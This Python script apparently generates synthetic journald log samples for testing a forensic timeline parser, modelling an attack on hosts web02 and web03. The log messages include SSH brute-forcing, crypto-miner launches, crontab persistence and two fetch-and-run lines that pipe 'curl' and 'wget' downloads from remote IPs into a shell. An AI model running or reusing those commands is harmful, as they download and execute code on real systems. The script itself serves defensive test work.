#!/usr/bin/env python3
"""Writes the synthetic journald samples in sample-logs/linux/journald/ (see the README there).

Run from the repository root: python3 tests/Timeline.Tests/Parsers/Linux/Journald/make_journald_samples.py
Entries are described once and serialised the way journalctl 252 (Debian 12) does it:
-o export writes a field as NAME=value unless its value has bytes outside printable UTF-8 and TAB,
then as NAME\\n + 64-bit little-endian length + bytes + \\n; -o json writes such values as byte
arrays, repeated fields as arrays, and values over 4096 bytes as null.
"""
import json
import struct
import zlib

OUT = "sample-logs/linux/journald/"
SEQNUM_ID = "8a0c3f7e51d24b6c9e2a7d41f0b85c13"
MACHINE_ID = "2f6d0e9a4c8b47f1a35e6b7c9d0e1f24"


def base(host, boot, realtime_us, seq, mono_us):
    cursor = f"s={SEQNUM_ID};i={seq:x};b={boot};m={mono_us:x};t={realtime_us:x};x={zlib.crc32(f'{seq}{realtime_us}'.encode()):08x}"
    return [("__CURSOR", cursor), ("__REALTIME_TIMESTAMP", str(realtime_us)), ("__MONOTONIC_TIMESTAMP", str(mono_us)),
            ("_BOOT_ID", boot), ("_MACHINE_ID", MACHINE_ID), ("_HOSTNAME", host)]


def syslog_entry(host, boot, t, seq, mono, ident, pid, prio, facility, message, comm, exe, cmdline, unit, uid="0"):
    fields = base(host, boot, t, seq, mono)
    fields += [("PRIORITY", str(prio)), ("SYSLOG_FACILITY", str(facility)), ("SYSLOG_IDENTIFIER", ident),
               ("SYSLOG_PID", str(pid)), ("_TRANSPORT", "syslog"), ("_UID", uid), ("_GID", uid if uid != "1000" else "1000"),
               ("_COMM", comm), ("_EXE", exe), ("_CMDLINE", cmdline), ("_CAP_EFFECTIVE", "1ffffffffff"),
               ("_SELINUX_CONTEXT", "unconfined\n"), ("_SYSTEMD_CGROUP", f"/system.slice/{unit}"), ("_SYSTEMD_UNIT", unit),
               ("_SYSTEMD_SLICE", "system.slice"), ("_PID", str(pid)), ("_SOURCE_REALTIME_TIMESTAMP", str(t - 17)),
               ("MESSAGE", message)]
    return fields


def systemd_started(host, boot, t, seq, mono, unit, description):
    fields = base(host, boot, t, seq, mono)
    fields += [("PRIORITY", "6"), ("SYSLOG_FACILITY", "3"), ("CODE_FILE", "src/core/job.c"), ("CODE_LINE", "768"),
               ("CODE_FUNC", "job_emit_done_message"), ("SYSLOG_IDENTIFIER", "systemd"), ("JOB_TYPE", "start"),
               ("JOB_RESULT", "done"), ("MESSAGE_ID", "39f53479d3a045ac8e11786248231fbf"), ("UNIT", unit),
               ("_TRANSPORT", "journal"), ("_PID", "1"), ("_UID", "0"), ("_GID", "0"), ("_COMM", "systemd"),
               ("_EXE", "/usr/lib/systemd/systemd"), ("_CMDLINE", "/sbin/init"), ("_CAP_EFFECTIVE", "1ffffffffff"),
               ("_SELINUX_CONTEXT", "unconfined\n"), ("_SYSTEMD_CGROUP", "/init.scope"), ("_SYSTEMD_UNIT", "init.scope"),
               ("_SYSTEMD_SLICE", "-.slice"), ("MESSAGE", f"Started {unit} - {description}."), ("INVOCATION_ID", "4c1e0b7d9a2f4e3c8b6d5a1f0e9c7b2a"),
               ("_SOURCE_REALTIME_TIMESTAMP", str(t - 40))]
    return fields


def kernel_mount(host, boot, t, seq, mono):
    fields = base(host, boot, t, seq, mono)
    fields += [("_SOURCE_MONOTONIC_TIMESTAMP", str(mono - 210)), ("_TRANSPORT", "kernel"), ("SYSLOG_FACILITY", "0"),
               ("SYSLOG_IDENTIFIER", "kernel"), ("PRIORITY", "6"), ("_KERNEL_DEVICE", "b8:17"), ("_KERNEL_SUBSYSTEM", "block"),
               ("_UDEV_SYSNAME", "sdb1"), ("_UDEV_DEVNODE", "/dev/sdb1"),
               ("_UDEV_DEVLINK", "/dev/disk/by-uuid/6b1f3c2e-9d4a-4f0b-8e7c-2a5d9b1c0e3f"),
               ("_UDEV_DEVLINK", "/dev/disk/by-path/pci-0000:00:10.0-scsi-0:0:1:0-part1"),
               ("MESSAGE", "EXT4-fs (sdb1): mounted filesystem 6b1f3c2e-9d4a-4f0b-8e7c-2a5d9b1c0e3f r/w with ordered data mode. Quota mode: none.")]
    return fields


def stdout_entry(host, boot, t, seq, mono, ident, pid, message, exe, cmdline, unit, uid):
    fields = base(host, boot, t, seq, mono)
    fields += [("PRIORITY", "6"), ("SYSLOG_FACILITY", "3"), ("_UID", uid), ("_GID", uid), ("_CAP_EFFECTIVE", "0"),
               ("_SELINUX_CONTEXT", "unconfined\n"), ("_SYSTEMD_SLICE", "system.slice"), ("_TRANSPORT", "stdout"),
               ("_STREAM_ID", "9e4b7a1c3d2f4e6a8b0c1d2e3f4a5b6c"), ("SYSLOG_IDENTIFIER", ident), ("_PID", str(pid)),
               ("_COMM", ident), ("_EXE", exe), ("_CMDLINE", cmdline), ("_SYSTEMD_CGROUP", f"/system.slice/{unit}"),
               ("_SYSTEMD_UNIT", unit), ("_SYSTEMD_INVOCATION_ID", "4c1e0b7d9a2f4e3c8b6d5a1f0e9c7b2a"), ("MESSAGE", message)]
    return fields


def to_bytes(v):
    return v if isinstance(v, bytes) else v.encode("utf-8")


def printable(b):
    try:
        s = b.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return all(c == "\t" or ord(c) >= 32 for c in s) and "\x7f" not in s


def export(entries):
    out = bytearray()
    for fields in entries:
        for name, value in fields:
            b = to_bytes(value)
            if printable(b):
                out += name.encode() + b"=" + b + b"\n"
            else:
                out += name.encode() + b"\n" + struct.pack("<Q", len(b)) + b + b"\n"
        out += b"\n"
    return bytes(out)


def json_lines(entries):
    lines = []
    for fields in entries:
        values = {}
        for name, value in fields:
            b = to_bytes(value)
            v = None if len(b) > 4096 else b.decode("utf-8") if printable(b) else list(b)
            values.setdefault(name, []).append(v)
        obj = {name: vs[0] if len(vs) == 1 else vs for name, vs in values.items()}
        lines.append(json.dumps(obj, separators=(",", ":"), ensure_ascii=False))
    return ("\n".join(lines) + "\n").encode("utf-8")


def web02():
    host, boot = "web02", "c41f2a9e7b3d4e58a6f0d1b2c3e4f5a6"
    t0, m0 = 1709349012481913, 911_204_331  # 2024-03-02T03:10:12.481913Z, 15 minutes after boot
    seq = [0x3b20]

    def at(seconds):
        seq[0] += 1
        us = int(seconds * 1_000_000)
        return t0 + us, seq[0], m0 + us

    ssh = dict(comm="sshd", exe="/usr/sbin/sshd", unit="ssh.service")
    cron = dict(comm="cron", exe="/usr/sbin/cron", cmdline="/usr/sbin/cron -f", unit="cron.service")
    e = []
    e.append(kernel_mount(host, boot, *at(0)))
    e.append(syslog_entry(host, boot, *at(278.720), "sshd", 2201, 6, 4, "Invalid user admin from 203.0.113.45 port 51234", cmdline="sshd: unknown [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(280.988), "sshd", 2201, 5, 10, "pam_unix(sshd:auth): check pass; user unknown", cmdline="sshd: unknown [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(280.989), "sshd", 2201, 5, 10, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.45 ", cmdline="sshd: unknown [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(282.604), "sshd", 2201, 6, 4, "Failed password for invalid user admin from 203.0.113.45 port 51234 ssh2", cmdline="sshd: unknown [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(284.117), "sshd", 2205, 5, 10, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.45  user=deploy", cmdline="sshd: deploy [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(286.330), "sshd", 2205, 6, 4, "Failed password for deploy from 203.0.113.45 port 51240 ssh2", cmdline="sshd: deploy [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(290.012), "sshd", 2207, 6, 4, "Failed password for deploy from 203.0.113.45 port 51248 ssh2", cmdline="sshd: deploy [priv]", **ssh))
    # A scanner's Latin-1 user name: not UTF-8, so journalctl writes MESSAGE as a binary field.
    e.append(syslog_entry(host, boot, *at(291.540), "sshd", 2209, 6, 4, b"Invalid user J\xf6rg from 198.51.100.7 port 40022", cmdline="sshd: unknown [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(298.775), "sshd", 2211, 6, 4, "Accepted password for deploy from 203.0.113.45 port 51262 ssh2", cmdline="sshd: deploy [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(298.781), "sshd", 2211, 6, 10, "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)", cmdline="sshd: deploy [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(298.802), "systemd-logind", 612, 6, 4, "New session 14 of user deploy.", comm="systemd-logind", exe="/usr/lib/systemd/systemd-logind", cmdline="/lib/systemd/systemd-logind", unit="systemd-logind.service"))
    e.append(systemd_started(host, boot, *at(298.840), "session-14.scope", "Session 14 of User deploy"))
    e.append(syslog_entry(host, boot, *at(371.203), "sudo", 2290, 5, 10, "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/bash -c curl -fsSL http://198.51.100.23/ldr.sh | bash", comm="sudo", exe="/usr/bin/sudo", cmdline="sudo bash -c curl -fsSL http://198.51.100.23/ldr.sh | bash", unit="session-14.scope", uid="1000"))
    e.append(syslog_entry(host, boot, *at(371.209), "sudo", 2290, 6, 10, "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1000)", comm="sudo", exe="/usr/bin/sudo", cmdline="sudo bash -c curl -fsSL http://198.51.100.23/ldr.sh | bash", unit="session-14.scope", uid="1000"))
    e.append(syslog_entry(host, boot, *at(375.660), "useradd", 2334, 6, 10, "new user: name=sysupdate, UID=998, GID=998, home=/var/lib/sysupdate, shell=/usr/sbin/nologin, from=none", comm="useradd", exe="/usr/sbin/useradd", cmdline="useradd -r -d /var/lib/sysupdate -s /usr/sbin/nologin sysupdate", unit="session-14.scope"))
    e.append(systemd_started(host, boot, *at(414.918), "sysupdate.service", "System Update Service"))
    e.append(stdout_entry(host, boot, *at(415.377), "sysupdate", 2391, "[2024-03-02 03:17:07.859]  net      use pool pool.supportxmr.com:443 TLS 203.0.113.200", exe="/var/lib/sysupdate/sysupdate", cmdline="/var/lib/sysupdate/sysupdate -c /var/lib/sysupdate/config.json", unit="sysupdate.service", uid="998"))
    e.append(syslog_entry(host, boot, *at(431.004), "crontab", 2420, 6, 9, "(root) REPLACE (root)", comm="crontab", exe="/usr/bin/crontab", cmdline="crontab /tmp/.c", unit="session-14.scope"))
    e.append(syslog_entry(host, boot, *at(468.010), "CRON", 2455, 6, 10, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", **cron))
    e.append(syslog_entry(host, boot, *at(468.013), "CRON", 2455, 6, 9, "(root) CMD (/var/lib/sysupdate/watch.sh >/dev/null 2>&1)", **cron))
    e.append(syslog_entry(host, boot, *at(468.551), "CRON", 2455, 6, 10, "pam_unix(cron:session): session closed for user root", **cron))
    return e


def web03():
    host, boot = "web03", "5d7e9f1a2b3c4d5e6f708192a3b4c5d6"
    t0, m0 = 1709614811204117, 4_402_118_020  # 2024-03-05T05:00:11.204117Z
    seq = [0x91a0]

    def at(seconds):
        seq[0] += 1
        us = int(seconds * 1_000_000)
        return t0 + us, seq[0], m0 + us

    ssh = dict(comm="sshd", exe="/usr/sbin/sshd", unit="ssh.service")
    cron = dict(comm="cron", exe="/usr/sbin/cron", cmdline="/usr/sbin/cron -f", unit="cron.service")
    e = []
    e.append(kernel_mount(host, boot, *at(0)))
    e.append(syslog_entry(host, boot, *at(30.118), "sshd", 7710, 5, 10, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.77  user=root", cmdline="sshd: root [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(32.400), "sshd", 7710, 6, 4, "Failed password for root from 198.51.100.77 port 60110 ssh2", cmdline="sshd: root [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(35.902), "sshd", 7712, 6, 4, "Failed password for root from 198.51.100.77 port 60116 ssh2", cmdline="sshd: root [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(41.077), "sshd", 7714, 6, 4, "Accepted publickey for root from 198.51.100.77 port 60122 ssh2: ED25519 SHA256:Qm9vdGxlZ0tleUZvclRpbWVsaW5lU2FtcGxlMDAx", cmdline="sshd: root [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(41.090), "sshd", 7714, 6, 10, "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)", cmdline="sshd: root [priv]", **ssh))
    e.append(syslog_entry(host, boot, *at(98.441), "sudo", 7790, 5, 10, "    root : TTY=pts/1 ; PWD=/root ; USER=ops ; COMMAND=/usr/bin/crontab -l", comm="sudo", exe="/usr/bin/sudo", cmdline="sudo -u ops crontab -l", unit="session-3.scope"))
    e.append(systemd_started(host, boot, *at(120.005), "kdevtmpfsi.service", "kdevtmpfsi"))
    # XMRig colours its console output: the ESC bytes are control characters, so MESSAGE is a byte array.
    e.append(stdout_entry(host, boot, *at(121.310), "kdevtmpfsi", 7833, b"\x1b[1;37mnet      \x1b[0m use pool \x1b[1;36mpool.minexmr.example:443 \x1b[1;30m203.0.113.201", exe="/tmp/kdevtmpfsi", cmdline="/tmp/kdevtmpfsi -o pool.minexmr.example:443 --config=" + "QkFTRTY0" * 520, unit="kdevtmpfsi.service", uid="0"))
    e.append(syslog_entry(host, boot, *at(180.012), "CRON", 7851, 6, 9, "(root) CMD (wget -q -O - http://203.0.113.9/unk.sh | sh > /dev/null 2>&1)", **cron))
    return e


open(OUT + "web02-export.journal", "wb").write(export(web02()))
# The miner's 4.2 KB command line is over journalctl's 4096-byte JSON limit: written as null.
open(OUT + "web03.json", "wb").write(json_lines(web03()))
